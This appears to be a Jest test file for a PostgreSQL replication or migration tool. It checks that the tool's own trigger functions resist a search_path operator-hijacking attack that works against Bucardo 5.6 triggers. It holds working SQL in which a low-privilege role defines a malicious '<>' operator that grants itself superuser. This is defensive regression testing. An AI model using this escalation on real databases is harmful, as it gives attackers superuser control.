import type { Client } from 'pg';
import { startMigration, type TestMigration } from '../../helpers/migration';
import { runCapture } from './recorded';

/**
 * The attack on Bucardo's own trigger functions: they run with the rights of a superuser, find operators by the writer's
 * search path, and compare keys by a bare `<>`.
 */
const ATTACK = `
  CREATE ROLE mallory LOGIN; GRANT ALL ON item, stock TO mallory;
  CREATE SCHEMA lair AUTHORIZATION mallory;
  SET ROLE mallory;
  CREATE FUNCTION lair.differs(int, int) RETURNS boolean LANGUAGE plpgsql AS $f$
  BEGIN
    IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN ALTER ROLE mallory SUPERUSER; END IF;
    RETURN int4ne($1, $2);
  END $f$;
  CREATE FUNCTION lair.equals(int, int) RETURNS boolean LANGUAGE sql AS 'SELECT NOT lair.differs($1, $2)';
  CREATE OPERATOR lair.<> (LEFTARG = int, RIGHTARG = int, PROCEDURE = lair.differs);
  CREATE OPERATOR lair.= (LEFTARG = int, RIGHTARG = int, PROCEDURE = lair.equals);
  RESET ROLE`;

/** The trigger function that Bucardo 5.6 makes for a table, by its validate_sync. */
const STOCK = `
  CREATE TABLE bucardo.delta_stock (id int, txntime timestamptz NOT NULL DEFAULT now());
  CREATE FUNCTION bucardo.delta_stock() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER VOLATILE AS $clone$
  BEGIN
  IF (TG_OP = 'INSERT') THEN
    INSERT INTO bucardo.delta_stock VALUES (NEW.id);
  ELSIF (TG_OP = 'UPDATE') THEN
    INSERT INTO bucardo.delta_stock VALUES (OLD.id);
    IF (OLD.id <> NEW.id) THEN
      INSERT INTO bucardo.delta_stock VALUES (NEW.id);
    END IF;
  ELSE
    INSERT INTO bucardo.delta_stock VALUES (OLD.id);
  END IF;
  RETURN NULL;
  END $clone$;
  CREATE TRIGGER bucardo_delta AFTER INSERT OR UPDATE OR DELETE ON stock
  FOR EACH ROW EXECUTE PROCEDURE bucardo.delta_stock()`;

let migration: TestMigration;
let source: Client;
beforeAll(async () => {
  migration = await startMigration();
  source = await migration.admin('source');
  await source.query('CREATE TABLE item (id int PRIMARY KEY); INSERT INTO item VALUES (1)');
  await runCapture(migration);
  await source.query('CREATE TABLE stock (id int PRIMARY KEY); INSERT INTO stock VALUES (1)');
  await source.query(STOCK);
  await source.query(ATTACK);
});
afterAll(() => migration.stop());
beforeEach(() => source.query('ALTER ROLE mallory NOSUPERUSER'));

async function attack(statement: string): Promise<boolean> {
  await source
    .query(`SET ROLE mallory; SET search_path = lair, pg_catalog, pg_temp; ${statement}`)
    .catch(() => undefined);
  await source.query('RESET ROLE; RESET search_path');
  const { rows } = await source.query(`SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'`);
  return (rows[0] as { rolsuper: boolean }).rolsuper;
}

it('a role with operators of its own becomes superuser through the trigger of stock Bucardo', async () => {
  expect(await attack('UPDATE public.stock SET id = int4pl(id, 1)')).toBe(true);
});

it.each([
  'UPDATE public.item SET id = int4pl(id, 1)',
  'INSERT INTO public.item VALUES (100)',
  'DELETE FROM public.item',
  'TRUNCATE public.item',
])('and gains nothing through ours by %s', async (statement) => {
  expect(await attack(statement)).toBe(false);
});

it("every function of ours that runs with its owner's rights finds names in pg_catalog only", async () => {
  const { rows } = await source.query(`
    SELECT p.proname, p.proconfig FROM pg_proc p WHERE p.pronamespace = 'bucardo'::regnamespace AND p.prosecdef
      AND p.proname <> 'delta_stock' ORDER BY 1`);
  const proconfig = ['search_path=pg_catalog, pg_temp'];
  expect(rows).toEqual([
    { proname: 'delta_public_item', proconfig },
    { proname: 'trunc_public_item', proconfig },
  ]);
});
